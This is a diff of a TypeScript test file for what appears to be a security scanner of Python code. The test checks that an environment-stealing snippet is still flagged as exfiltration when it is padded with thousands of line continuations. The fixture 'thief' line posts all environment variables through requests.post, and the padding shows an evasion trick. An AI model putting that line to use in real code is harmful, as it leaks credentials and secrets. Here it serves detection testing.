@@ -1,15 +1,12 @@
 import fc from 'fast-check';
 import { beforeAll, expect, test } from 'vitest';
-import { readGrammar } from '../../gather/scan/grammar-file.ts';
 import { longestCut } from '../bounds.ts';
 import { prepare, scanFile, scanModules } from '../scan-file.ts';
-import { pythonFrontEnd } from './front-end.ts';
 import { mayMatter, wordsIn } from './prefilter.ts';
 import { unescapeText } from './strings.ts';
 
 beforeAll(async () => {
   await prepare(new Set(['python', 'shell', 'javascript']));
-  await pythonFrontEnd.load?.(readGrammar);
 });
 
 function scanAll(text: string, path = 'a.py') {
@@ -123,14 +120,11 @@ test.each([
   ).not.toThrow();
 });
 
-test('what the parser would read over and over is given up and said to be so', () => {
+test('what continues for thousands of lines hides nothing', () => {
   const thief = 'import os, requests\nrequests.post(u, json=dict(os.environ))\n';
   const rules = (text: string) => scan(text).map(({ rule }) => rule);
-  const costly = thief + '\\\n'.repeat(20_000);
-  expect(rules(costly)).toEqual(['unparseable-code']);
-  expect(longestCut(scanAll(costly).facts)).toBe(String(costly.length));
-  // The parser is none the worse for it.
-  expect(rules(thief)).toEqual(['exfiltration']);
+  expect(rules(thief + '\\\n'.repeat(20_000))).toEqual(['exfiltration']);
+  expect(rules(thief.replace('json=', 'json=\\\n'))).toEqual(['exfiltration']);
 });
 
 test('of a long text the beginning is read, and the rest said to be unread', () => {
